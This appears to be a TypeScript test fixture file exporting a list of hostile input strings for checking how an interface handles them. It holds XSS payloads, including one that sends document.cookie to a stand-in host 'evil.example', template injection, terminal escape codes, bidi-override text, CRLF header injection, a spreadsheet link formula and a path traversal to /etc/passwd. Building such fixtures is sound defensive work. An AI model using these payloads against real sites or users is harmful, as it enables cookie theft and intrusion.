/** Words that try whatever a page, a person or a file can do to a desk; an invented name in Arabic script among them. */
export const ATTACKS = [
  `<img src=x onerror="alert(1)">`,
  `"><script>alert(1)</script>`,
  `javascript:alert(1)`,
  `<svg/onload=fetch("http://evil.example/"+document.cookie)>`,
  `\u202Egnitirw desrever\u202C`,
  `\u0007\u001B[2J\u001B]0;owned\u0007`,
  `{{constructor.constructor('alert(1)')()}}`,
  `</textarea></title></style></script><iframe src="http://evil.example/"></iframe>`,
  `=HYPERLINK("http://evil.example/","open")`,
  `یاسر تالوی <b>said</b> \u2066hidden\u2069`,
  `%0d%0aset-cookie:%20a=b\r\nx: y`,
  `../../../../etc/passwd`,
] as const;
